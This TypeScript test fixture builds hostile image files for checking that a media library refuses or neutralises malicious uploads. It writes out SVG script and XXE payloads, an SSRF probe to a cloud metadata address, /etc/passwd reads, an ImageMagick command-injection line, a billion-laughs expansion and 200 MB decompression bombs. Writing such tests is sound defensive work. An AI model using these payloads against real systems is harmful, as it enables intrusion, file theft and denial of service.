import { crc32, deflateSync, gzipSync } from 'node:zlib';
import { samplePdf } from '@phantom/service-kit/testing';
import sharp from 'sharp';
import { type HostileFile, inertFile, MARKER, refusedFile, SCRIPT } from './hostile-file.js';

const MEGABYTE = 1024 * 1024;
const NAMESPACES = 'xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"';

const svg = (content: string, attributes = ''): string =>
  `<svg ${NAMESPACES} ${attributes}>${content}</svg>`;

/** Each is a way to execute something, or to load it from elsewhere. */
const SVGS: [what: string, content: string | Buffer][] = [
  ['that runs as it loads', svg('', 'onload="alert(1)"')],
  ['with a page in it', svg('<foreignObject><body onload="alert(1)"/></foreignObject>')],
  ['with a link that is a script', svg('<a xlink:href="javascript:alert(1)"><text>A</text></a>')],
  ['with a script elsewhere', svg('<script xlink:href="http://elsewhere.test/a.js"/>')],
  ['with a picture elsewhere', svg('<image href="http://169.254.169.254/latest/"/>')],
  ['with a file of the machine', svg('<image href="file:///etc/passwd"/>')],
  ['with a style elsewhere', svg('<style>@import "http://elsewhere.test/a.css"</style>')],
  ['that changes itself', svg('<a><set attributeName="href" to="javascript:alert(1)"/></a>')],
  ['that uses data', svg("<use href=\"data:image/svg+xml,<svg id='a' onload='alert(1)'/>#a\"/>")],
  ['without a declaration', svg(SCRIPT)],
  ['behind a comment', `<!-- ${'x'.repeat(5_000)} -->${svg(SCRIPT)}`],
  ['behind blanks', `${' \n'.repeat(3_000)}${svg(SCRIPT)}`],
  ['in UTF-16', Buffer.from(`\ufeff${svg(SCRIPT)}`, 'utf16le')],
  ['that reads files', `<!DOCTYPE svg [<!ENTITY a SYSTEM "file:///etc/passwd">]>${svg('&a;')}`],
  ['that unfolds', `<!DOCTYPE svg [${lol()}]>${svg('&l9;')}`],
  ['with a style sheet', `<?xml-stylesheet href="http://elsewhere.test/a.xsl"?>${svg('')}`],
  ['of enormous dimensions', svg('<rect width="1" height="1"/>', 'width="1e9" height="1e9"')],
  ['that is packed twice', gzipSync(gzipSync(svg(SCRIPT)))],
];

/** Ten to the power of nine, by entities. */
function lol(): string {
  const levels = Array.from(
    { length: 9 },
    (_, at) => `<!ENTITY l${at + 1} "${`&l${at};`.repeat(10)}">`,
  );
  return `<!ENTITY l0 "lol">${levels.join('')}`;
}

const bytes = (hex: string, filling = 300): Buffer =>
  Buffer.concat([Buffer.from(hex, 'hex'), Buffer.alloc(filling)]);

/** Formats of pictures that the library does not take. */
const OTHER_FORMATS: [what: string, content: string | Buffer][] = [
  ['a GIF', `GIF89a${'\0'.repeat(300)}`],
  ['a GIF with a page behind it', `GIF87a\x01\0\x01\0\0\0\0;<!doctype html>${SCRIPT}`],
  ['an AVIF', bytes('0000001c6674797061766966000000006176696600000000')],
  ['a JPEG XL', bytes('0000000c4a584c200d0a870a')],
  ['a JPEG 2000', bytes('0000000c6a5020200d0a870a')],
  ['a Photoshop file', bytes('384250530001')],
  ['a GIMP file', Buffer.from('gimp xcf file'.padEnd(300, '\0'))],
  ['a PostScript file', '%!PS-Adobe-3.0 EPSF-3.0\n(/etc/passwd) (r) file\n'],
  ['an image of ImageMagick', 'push graphic-context\nimage over 0,0 0,0 "|id"\n'],
  ['a Windows metafile', bytes('d7cdc69a0000')],
  ['a DDS', bytes('444453207c000000')],
  ['an OpenEXR', bytes('762f3101')],
  ['a large TIFF', bytes('4d4d002b00080000')],
  ['a raw picture of a camera', bytes('49492a001000000043520200')],
  ['a cursor', bytes('000002000100')],
  ['a bitmap of text', 'P1\n1000000 1000000\n'],
  ['a Radiance picture', '#?RADIANCE\nFORMAT=32-bit_rle_rgbe\n\n-Y 99999 +X 99999\n'],
];

interface Chunk {
  type: string;
  data: Buffer;
}

/** A PNG with more chunks, behind its header. */
function withChunks(png: Buffer, ...chunks: Chunk[]): Buffer {
  const packed = chunks.map(({ type, data }) => {
    const body = Buffer.concat([Buffer.from(type), data]);
    const frame = Buffer.alloc(8);
    frame.writeUInt32BE(data.length);
    frame.writeUInt32BE(crc32(body), 4);
    return Buffer.concat([frame.subarray(0, 4), body, frame.subarray(4)]);
  });
  return Buffer.concat([png.subarray(0, 33), ...packed, png.subarray(33)]);
}

/** A JPEG with one more segment, behind its first two bytes. */
function withSegment(jpeg: Buffer, marker: number, data: string | Buffer): Buffer {
  const content = Buffer.from(data as string);
  const head = Buffer.from([0xff, marker, 0, 0]);
  head.writeUInt16BE(content.length + 2, 2);
  return Buffer.concat([jpeg.subarray(0, 2), head, content, jpeg.subarray(2)]);
}

/** A picture that no other case has. */
let shade = 0;
const drawn = () =>
  sharp({
    create: { width: 60, height: 40, channels: 3, background: { r: (shade += 1), g: 9, b: 9 } },
  });

const ORIENTATION = 0x0112;

/** Exif with one number, little-endian. */
function exifWith(tag: number, value: number): Buffer {
  const tiff = Buffer.alloc(26);
  tiff.write('II*\0\x08\0\0\0\x01\0', 'latin1');
  tiff.writeUInt16LE(tag, 10);
  tiff.writeUInt16LE(3, 12);
  tiff.writeUInt32LE(1, 14);
  tiff.writeUInt32LE(value, 18);
  return Buffer.concat([Buffer.from('Exif\0\0'), tiff]);
}

async function pngs(): Promise<HostileFile[]> {
  const zeros = deflateSync(Buffer.alloc(200 * MEGABYTE));
  const text = (data: string) => ({ type: 'tEXt', data: Buffer.from(`Comment\0${MARKER}${data}`) });
  const cases: [what: string, alter: (png: Buffer) => Buffer][] = [
    ['with a script as its comment', (png) => withChunks(png, text(SCRIPT))],
    [
      'with a text that unfolds to 200 MB',
      (png) =>
        withChunks(png, { type: 'zTXt', data: Buffer.concat([Buffer.from('a\0\0'), zeros]) }),
    ],
    [
      'with a profile that unfolds to 200 MB',
      (png) =>
        withChunks(png, { type: 'iCCP', data: Buffer.concat([Buffer.from('a\0\0'), zeros]) }),
    ],
    [
      'with an international text',
      (png) =>
        withChunks(png, {
          type: 'iTXt',
          data: Buffer.from(`XML:com.adobe.xmp\0\0\0\0\0${MARKER}`),
        }),
    ],
    [
      'with a private chunk',
      (png) => withChunks(png, { type: 'hoSt', data: Buffer.from(`${MARKER}${SCRIPT}`) }),
    ],
    [
      'with 5,000 chunks',
      (png) => withChunks(png, ...Array.from({ length: 5_000 }, () => text('x'))),
    ],
    [
      'with a chunk that must be known',
      (png) => withChunks(png, { type: 'HOST', data: Buffer.from(MARKER) }),
    ],
    ['with two headers', (png) => withChunks(png, { type: 'IHDR', data: png.subarray(16, 29) })],
    [
      'with animation control',
      (png) => withChunks(png, { type: 'acTL', data: Buffer.from('7fffffff00000000', 'hex') }),
    ],
    [
      'with a page behind it',
      (png) => Buffer.concat([png, Buffer.from(`${MARKER}<html>${SCRIPT}`)]),
    ],
    ['with a PDF behind it', (png) => Buffer.concat([png, Buffer.from(MARKER), samplePdf()])],
    ['with a damaged checksum', (png) => alteredAt(png, 29)],
    ['with damaged pixels', (png) => alteredAt(png, png.length - 20)],
    ['of no width', (png) => sizedPng(png, 0, 40)],
    ['of 2 thousand million by 1 pixels', (png) => sizedPng(png, 0x7fffffff, 1)],
    ['of 1 by 60 million pixels', (png) => sizedPng(png, 1, 60_000_000)],
    ['of negative height', (png) => sizedPng(png, 60, 0xffffffff)],
  ];
  return Promise.all(
    cases.map(async ([what, alter]) =>
      inertFile(`a PNG ${what}`, 'home.png', alter(await drawn().png().toBuffer())),
    ),
  );
}

function alteredAt(picture: Buffer, at: number): Buffer {
  const copy = Buffer.from(picture);
  copy[at] = (copy[at] ?? 0) ^ 0xff;
  return copy;
}

/** The header is right, its pixels are fewer. */
function sizedPng(png: Buffer, width: number, height: number): Buffer {
  const copy = Buffer.from(png);
  copy.writeUInt32BE(width, 16);
  copy.writeUInt32BE(height, 20);
  copy.writeUInt32BE(crc32(copy.subarray(12, 29)), 29);
  return copy;
}

async function jpegs(): Promise<HostileFile[]> {
  const cases: [what: string, alter: (jpeg: Buffer) => Buffer][] = [
    ['with a script as its comment', (jpeg) => withSegment(jpeg, 0xfe, `${MARKER}${SCRIPT}`)],
    ['that is a script', (jpeg) => withSegment(jpeg, 0xe0, `${MARKER}/*=1;alert(1)*/`)],
    [
      'with a profile that is a page',
      (jpeg) => withSegment(jpeg, 0xe2, `ICC_PROFILE\0\x01\x01${MARKER}`),
    ],
    ['with XMP', (jpeg) => withSegment(jpeg, 0xe1, `http://ns.adobe.com/xap/1.0/\0${MARKER}`)],
    [
      'with IPTC',
      (jpeg) => withSegment(jpeg, 0xed, `Photoshop 3.0\x008BIM\x04\x04\0\0\0\0\0\x0e${MARKER}`),
    ],
    ['with a second picture', (jpeg) => withSegment(jpeg, 0xe2, `MPF\0${MARKER}`)],
    [
      'with 400 comments',
      (jpeg) =>
        Array.from({ length: 400 }).reduce<Buffer>((all) => withSegment(all, 0xfe, MARKER), jpeg),
    ],
    ['turned by 99', (jpeg) => withSegment(jpeg, 0xe1, exifWith(ORIENTATION, 99))],
    ['with Exif that points into itself', (jpeg) => withSegment(jpeg, 0xe1, exifWith(0x8769, 8))],
    [
      'with Exif that breaks off',
      (jpeg) => withSegment(jpeg, 0xe1, 'Exif\0\0II*\0\xff\xff\xff\x7f'),
    ],
    ['with another behind it', (jpeg) => Buffer.concat([jpeg, Buffer.from(MARKER), jpeg])],
    ['without an end', (jpeg) => jpeg.subarray(0, -2)],
    [
      'without tables',
      (jpeg) => Buffer.concat([jpeg.subarray(0, 20), jpeg.subarray(jpeg.length / 2)]),
    ],
  ];
  return Promise.all(
    cases.map(async ([what, alter]) =>
      inertFile(`a JPEG ${what}`, 'home.jpg', alter(await drawn().jpeg().toBuffer())),
    ),
  );
}

/** Pictures that are odd, but real. */
async function oddPictures(): Promise<HostileFile[]> {
  const frames = Buffer.alloc(8 * 8 * 3 * 300, 7);
  const animated = sharp(frames, {
    raw: { width: 8, height: 8 * 300, channels: 3, pageHeight: 8 },
  });
  const line = { width: 16_000, height: 1, channels: 3, background: '#123456' } as const;
  return [
    inertFile('a WebP of 300 frames', 'home.webp', await animated.webp({ loop: 0 }).toBuffer()),
    inertFile('a picture of one line', 'home.png', await sharp({ create: line }).png().toBuffer()),
    inertFile(
      'a picture of one column',
      'home.png',
      await sharp({ create: { ...line, width: 1, height: 16_000 } })
        .png()
        .toBuffer(),
    ),
    inertFile(
      'a picture of one pixel',
      'home.png',
      await sharp({ create: { ...line, width: 1 } })
        .png()
        .toBuffer(),
    ),
    inertFile(
      'a JPEG for a printer',
      'home.jpg',
      await drawn().toColourspace('cmyk').jpeg().toBuffer(),
    ),
    inertFile(
      'a PNG of 16 bits',
      'home.png',
      await drawn().toColourspace('rgb16').png().toBuffer(),
    ),
    inertFile('a transparent WebP', 'home.webp', await drawn().ensureAlpha(0).webp().toBuffer()),
  ];
}

/** Pictures for the media library. */
export const mediaPictures = async (): Promise<HostileFile[]> => [
  ...SVGS.map(([what, content]) => refusedFile(`an SVG ${what}`, 'plan.svg', content)),
  ...OTHER_FORMATS.map(([what, content]) => refusedFile(what, 'home.jpg', content)),
  ...(await pngs()),
  ...(await jpegs()),
  ...(await oddPictures()),
];
